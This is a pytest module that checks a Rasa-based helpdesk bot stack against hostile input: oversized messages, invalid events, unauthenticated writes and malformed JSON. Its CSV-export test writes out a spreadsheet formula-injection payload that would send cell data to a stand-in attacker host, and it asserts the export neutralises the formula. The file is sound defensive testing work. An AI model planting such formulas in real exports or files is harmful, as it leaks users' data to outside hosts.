"""Hostile input against the real stack (app, action server, Rasa, its event broker, PostgreSQL).

Issue 12 probed the stack the README's run command starts, with a browser and curl. Each of its
cases is played here against such a stack, with PostgreSQL as the store. Between and after them
ordinary users chat; at the end the stack must still answer within a second, every ordinary
turn must be in the store exactly once, and nothing may wait in the broker's spool.
"""

from __future__ import annotations

import csv
import io
import json
import time
import urllib.error
import urllib.request
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest

from tests.stack import BotStack, running_stack

pytestmark = [pytest.mark.rasa, pytest.mark.slow]

JSON = {"Content-Type": "application/json"}
ORDINARY = ["445端口能用吗", "how do I open port 8080 in the security group", "安全组为什么删不掉"]


@pytest.fixture(scope="module")
def stack(tmp_path_factory: pytest.TempPathFactory) -> Iterator[BotStack]:
    from tests.deflection.conftest import fresh_schema, postgres_url

    postgres_url()  # fails clearly (or skips outside CI) without a test PostgreSQL
    with (
        fresh_schema("hostile") as url,
        running_stack(tmp_path_factory.mktemp("hostile-stack"), {"HELPDESK_DATABASE_URL": url}) as running,
    ):
        yield running


@pytest.fixture(scope="module")
def ordinary(stack: BotStack) -> dict[str, list[str]]:
    """Ordinary conversations, each told before, during and after the hostile cases (sender -> texts)."""
    return {f"ordinary-{i}-{uuid.uuid4().hex[:8]}": [] for i in range(3)}


def _chat_ordinarily(stack: BotStack, ordinary: dict[str, list[str]], round_: int) -> None:
    for sender, said in ordinary.items():
        text = ORDINARY[(round_ + len(said)) % len(ORDINARY)]
        assert stack.say(text, sender), f"no answer to {text!r}"
        said.append(text)


def _answers_within_a_second(stack: BotStack) -> None:
    started = time.monotonic()
    reply = stack.say("你好", f"probe-{uuid.uuid4().hex[:8]}")
    assert reply and time.monotonic() - started < 1.0, f"took {time.monotonic() - started:.2f} s"


def _events_token(stack: BotStack) -> str:
    return (Path(stack.env["HELPDESK_DATA_DIR"]) / "secrets" / "events_token").read_text(encoding="utf-8").strip()


def test_one_huge_message_neither_freezes_the_bot_nor_stops_the_records(
    stack: BotStack, ordinary: dict[str, list[str]]
) -> None:
    _chat_ordinarily(stack, ordinary, 0)
    huge = "端口" * 500_000  # 1 MB of text
    reply = httpx.post(
        f"{stack.rasa_url}/webhooks/rest/webhook", json={"sender": "huge-1", "message": huge}, timeout=30
    ).json()
    assert [m["custom"]["intent"] for m in reply if "custom" in m] == ["too_long"]
    _answers_within_a_second(stack)
    _chat_ordinarily(stack, ordinary, 1)


def test_one_bad_event_does_not_reject_the_valid_ones(stack: BotStack) -> None:
    sender = f"mixed-{uuid.uuid4().hex[:8]}"
    now = time.time()
    batch = {
        "batch_id": uuid.uuid4().hex,
        "events": [
            {"event": "user", "sender_id": sender, "timestamp": now, "text": "valid one"},
            {"event": "user", "sender_id": "s" * 300, "timestamp": now, "text": "sender too long"},
            {"event": "user", "sender_id": sender, "timestamp": 253402300800.0, "text": "year 10000"},
            {"event": "user", "sender_id": sender, "timestamp": now + 1, "text": "valid two"},
        ],
    }
    r = httpx.post(
        f"{stack.app_url}/v1/events", json=batch, headers={"Authorization": f"Bearer {_events_token(stack)}"}
    )
    assert r.status_code == 200, r.text
    assert [item["index"] for item in r.json()["refused"]] == [1, 2]
    texts = [t["text"] for t in stack.admin("GET", "/v1/admin/export/turns.json") if t["conversation_id"] == sender]
    assert texts == ["valid one", "valid two"]


@pytest.mark.parametrize(
    ("method", "path"),
    [("GET", "/conversations/someone/tracker"), ("POST", "/conversations/someone/tracker/events"), ("PUT", "/model")],
)
def test_the_default_stack_exposes_no_conversation(stack: BotStack, method: str, path: str) -> None:
    r = httpx.request(method, f"{stack.rasa_url}{path}", json=[{"event": "bot", "text": "a human took over"}])
    assert r.status_code in (401, 403, 404, 405), r.text


@pytest.mark.parametrize(
    ("path", "body"),
    [
        ("/v1/events", {"events": [{"event": "user", "sender_id": "forged", "timestamp": 1.0, "text": "x"}]}),
        (
            "/v1/handoffs",
            {
                "conversation_id": "forged",
                "channel": "rest",
                "language": "en",
                "reason": "user_request",
                "transcript": [],
                "candidates": [],
            },
        ),
    ],
)
def test_unauthenticated_writes_are_refused(stack: BotStack, path: str, body: dict[str, Any]) -> None:
    assert httpx.post(f"{stack.app_url}{path}", json=body).status_code == 401


@pytest.mark.parametrize(
    ("path", "body"),
    [
        ("/v1/answer", '{"question": "\\ud800 445"}'),
        ("/v1/answer", '{"question": "445", "top_k": NaN}'),
        ("/v1/answer", '{"question": "445", "top_k": Infinity}'),
        ("/v1/answer", '{"question": "445", "top_k": 1e999}'),
        ("/v1/security-groups/deletion-check", '{"security_group_id": "sg-\\udfff"}'),
    ],
)
def test_odd_but_legal_json_is_a_4xx_naming_the_field(stack: BotStack, path: str, body: str) -> None:
    r = httpx.post(f"{stack.app_url}{path}", content=body, headers=JSON)
    assert 400 <= r.status_code < 500, r.text
    assert r.json()["detail"][0]["msg"]


@pytest.mark.parametrize("body", [b"", b"null", b"[1,2]", b"42", b'"hi"', b'{"message": "hi"}'])
def test_rasas_rest_webhook_answers_a_bad_body_with_a_json_400(stack: BotStack, body: bytes) -> None:
    r = httpx.post(f"{stack.rasa_url}/webhooks/rest/webhook", content=body, headers=JSON)
    assert r.status_code == 400 and r.json()["detail"][0]["loc"][0] == "body"


@pytest.mark.parametrize("size", [1_000_000, 2_000_000])
def test_an_ordinary_client_receives_the_413(stack: BotStack, size: int) -> None:
    data = json.dumps({"question": "x" * size}).encode()
    request = urllib.request.Request(f"{stack.app_url}/v1/answer", data=data, headers=JSON)
    with pytest.raises(urllib.error.HTTPError) as err:
        urllib.request.urlopen(request, timeout=30)
    assert err.value.code == 413 and json.loads(err.value.read())["detail"][0]["type"] == "body_too_large"


def test_user_text_is_never_a_formula_in_the_export(stack: BotStack) -> None:
    sender = f"csv-{uuid.uuid4().hex[:8]}"
    attack = '=HYPERLINK("http://evil.example/?"&A1,"help")'
    stack.say(attack, sender)
    deadline = time.monotonic() + 20
    while True:
        exported = httpx.get(
            f"{stack.app_url}/v1/admin/export/turns.csv",
            headers={"Authorization": f"Bearer {stack.admin_token}"},
            timeout=30,
        ).text
        rows = [r for r in csv.DictReader(io.StringIO(exported)) if r["conversation_id"] == sender]
        if rows or time.monotonic() > deadline:
            break
        time.sleep(0.2)
    assert [r["text"] for r in rows] == ["'" + attack]


def test_afterwards_the_stack_answers_and_every_ordinary_turn_is_stored_once(
    stack: BotStack, ordinary: dict[str, list[str]]
) -> None:
    _chat_ordinarily(stack, ordinary, 2)
    _answers_within_a_second(stack)
    deadline = time.monotonic() + 30
    while True:
        turns = stack.admin("GET", "/v1/admin/export/turns.json")
        stored = {s: [t["text"] for t in turns if t["conversation_id"] == s] for s in ordinary}
        if stored == ordinary or time.monotonic() > deadline:
            break
        time.sleep(0.3)
    assert stored == ordinary  # each turn once, in order
    spool = Path(stack.env["HELPDESK_EVENTS_SPOOL"])
    waiting = [p for p in spool.rglob("*.batch.json") if "rejected" not in p.parts]  # batches, not lock files
    assert not waiting, f"batches still waiting in the spool: {waiting}"
    records = httpx.get(f"{stack.app_url}/readyz", timeout=5).json()["records"]
    assert records is None or records["waiting"] == 0
